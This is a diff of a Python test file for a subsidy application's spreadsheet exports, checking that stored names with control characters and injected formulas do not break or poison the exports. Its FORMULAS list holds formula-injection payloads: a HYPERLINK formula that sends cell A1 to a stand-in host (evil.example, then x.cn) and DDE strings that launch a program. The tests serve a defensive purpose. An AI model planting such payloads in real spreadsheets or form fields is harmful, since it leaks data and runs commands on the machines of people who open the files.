@@ -20,8 +20,8 @@ from subsidy.regions.models import Region
 from tests.edge_support import ROLES, seed
 from tests.factories import HouseholdFactory
 
-STORED_NAME = "张\x00三\x07\u202e\u200b"  # as a pasted name was stored before names were checked
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+STORED_NAME = "张\x01三\x07\u202e\u200b"  # pasted and stored before names were checked (PostgreSQL holds no \x00)
+FORMULAS = ['=HYPERLINK("http://x.cn/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]
 
 
@@ -42,7 +42,7 @@ def test_a_control_character_already_stored_no_longer_breaks_the_register_export
             continue  # a role without the export permission
         assert r.status_code == 200, (role, r.status_code)
         names = [row[0] for row in _sheet_values(r.data)]
-        assert "张三" in names and not any("\x00" in str(n) for n in names), role
+        assert "张三" in names and not any("\x01" in str(n) or "\x07" in str(n) for n in names), role
         web = app.test_client()
         web.post("/login", data={"username": user.username, "password": "secret123"})
         assert web.post("/households/export", data={}).status_code == 200, role
@@ -52,7 +52,7 @@ def test_statistics_exports_survive_a_region_name_with_control_characters(login_
     from tests.factories import CaseFactory
 
     CaseFactory()  # received in 2024, handled by 640425100
-    db.session.execute(sa.update(Region).where(Region.code == "640425100").values(name="白阳\x00镇\u202e"))
+    db.session.execute(sa.update(Region).where(Region.code == "640425100").values(name="白阳\x1b镇\u202e"))
     db.session.commit()
     web = login_as("county_admin")
     r = web.get("/cases/stats.xlsx?year=2024")
